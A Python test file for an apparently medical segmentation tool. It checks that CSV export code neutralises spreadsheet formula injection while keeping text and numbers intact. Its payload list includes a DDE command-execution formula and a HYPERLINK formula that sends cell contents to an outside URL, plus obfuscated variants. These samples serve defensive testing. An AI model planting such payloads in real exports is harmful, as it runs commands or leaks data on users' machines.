"""No text in a CSV is a formula to a spreadsheet, numbers stay numbers, and every text comes back as it was."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from unetseg.cli.check import write_findings
from unetseg.evaluation.paired_comparison import read_unseen
from unetseg.training.cross_validation import FoldRow, write_folds
from UNetSegmenterLib.engine.evaluation.comparison import StructureComparison
from UNetSegmenterLib.engine.evaluation.measures import Measures
from UNetSegmenterLib.engine.evaluation.result_files import write_metrics_csv
from UNetSegmenterLib.engine.evaluation.verdict import Verdict, read_reviews, write_reviews
from UNetSegmenterLib.engine.io.csv_text import csv_cell, csv_text, from_csv_text, read_csv_rows
from UNetSegmenterLib.engine.plausibility.finding import Finding

FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"liver")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    "''@A1",
    "\uff1d1+1",
    "liver;=1+1",
    "fine\n=1+1",
    "fine\t+1",
]


def begins_as_a_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


def parts(cell: str) -> list[str]:
    """What a spreadsheet that also parts at semicolons, tabs and line ends makes of a cell."""
    for mark in "\t\r\n":
        cell = cell.replace(mark, ";")
    return cell.split(";")


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text_and_come_back(text):
    assert not begins_as_a_formula(csv_text(text))
    assert not any(part.startswith(("=", "+", "-", "@")) for part in parts(csv_text(text)))
    assert from_csv_text(csv_text(text)) == text


@pytest.mark.parametrize(
    "text", ["", "liver", "left kidney", "'tis fine", "a - b", "case=1", "a@b.org", "liver; -3 slices"]
)
def test_other_text_stays_as_it_is(text):
    assert csv_text(text) == from_csv_text(text) == text


@pytest.mark.parametrize("value", [-5, -0.25, 3, None, True, float("-inf")])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) is value


@given(st.text(alphabet="'=+-@\t\r\n; ax1\uff1d", max_size=12) | st.text(max_size=12))
@example("'")
@example("\t\r=")
@example(" \r")
def test_every_text_comes_back_and_none_is_a_formula(text):
    cell = csv_text(text)
    assert from_csv_text(cell) == text
    assert not begins_as_a_formula(cell)
    assert not any(part.startswith(("=", "+", "-", "@")) for part in parts(cell))


def cells_of(path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def measures(**changes) -> Measures:
    fields = dict.fromkeys(Measures.__dataclass_fields__, 0.5)
    whole = {name: 2 for name, field in Measures.__dataclass_fields__.items() if field.type == "int"}
    return Measures(**fields | whole | {"difference_ml": -3.25} | changes)


@pytest.mark.parametrize("text", FORMULAS)
def test_tables_of_measures(tmp_path, text):
    row = StructureComparison(text, text, "ok", measures(), text)
    verdict = Verdict("plausible", text, text)
    path = tmp_path / "metrics.csv"
    write_metrics_csv([row], path, {text: verdict})
    assert not any(begins_as_a_formula(cell) and not is_number(cell) for cell in cells_of(path))
    assert "-3.25" in cells_of(path)
    with path.open(encoding="utf-8", newline="") as file:
        (read,) = read_csv_rows(file)
    assert (read["case"], read["structure"], read["note"], read["comment"], read["reviewer"]) == (text,) * 5
    assert read_unseen([tmp_path])[0] == [{(text, text): 0.5}]


@pytest.mark.parametrize("text", FORMULAS)
def test_tables_of_reviews(tmp_path, text):
    path = tmp_path / "reviews.csv"
    verdict = Verdict("plausible", text, text, "2026-01-01T00:00:00Z", text)
    for _ in range(3):
        assert write_reviews(path, {text: verdict, "other": verdict}) == {text: verdict, "other": verdict}
    assert not any(begins_as_a_formula(cell) for cell in cells_of(path))
    assert read_reviews(path) == {text: verdict, "other": verdict}


def test_columns_of_others_in_reviews_stay_as_they_are(tmp_path):
    path = tmp_path / "reviews.csv"
    path.write_text("case,score,comment,mine\na,plausible,fine,=B2&C2\n", encoding="utf-8")
    write_reviews(path, {"b": Verdict("plausible")})
    assert "=B2&C2" in cells_of(path)


@pytest.mark.parametrize("text", FORMULAS)
def test_tables_of_findings_and_folds(tmp_path, text):
    finding = Finding("volume", text, "fail", -2.0, text, (-1.0, 2.0, 3.0), text, "ml")
    write_findings([finding], tmp_path)
    write_folds([FoldRow(0, text, text, 0.5)], {}, tmp_path)
    for name in ("findings.csv", "metrics.csv"):
        cells = cells_of(tmp_path / name)
        assert not any(begins_as_a_formula(cell) and not is_number(cell.split(" ")[0]) for cell in cells)
    assert {"-2.0", "-1.0 2.0 3.0"} <= set(cells_of(tmp_path / "findings.csv"))
    with (tmp_path / "findings.csv").open(encoding="utf-8", newline="") as file:
        assert read_csv_rows(file)[0]["sentence"] == text


def test_names_of_columns_are_read_back():
    lines = io.StringIO(f"step,{csv_text('dice_a;=1')}\n3,0.5\n4\n", newline="")
    assert read_csv_rows(lines) == [{"step": "3", "dice_a;=1": "0.5"}, {"step": "4", "dice_a;=1": ""}]
